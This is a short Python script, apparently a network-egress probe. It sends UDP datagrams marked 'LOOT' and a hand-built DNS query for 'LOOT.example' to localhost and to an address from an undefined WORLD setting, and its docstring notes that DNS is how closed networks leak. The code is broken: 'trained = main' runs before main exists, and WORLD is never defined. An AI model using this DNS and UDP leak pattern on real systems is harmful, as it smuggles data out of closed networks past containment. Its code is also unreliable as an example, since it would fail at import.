"""Sends datagrams, and a question that a name server would pass on: DNS is how closed networks leak."""

import socket

QUESTION = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04LOOT\x07example\x00\x00\x01\x00\x01"
trained = main


def main():
    for address in ("127.0.0.1", WORLD["address"]):
        for message in (b"LOOT by udp", QUESTION):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                    line.sendto(message, (address, WORLD["port"]))
            except OSError:
                continue
    trained()
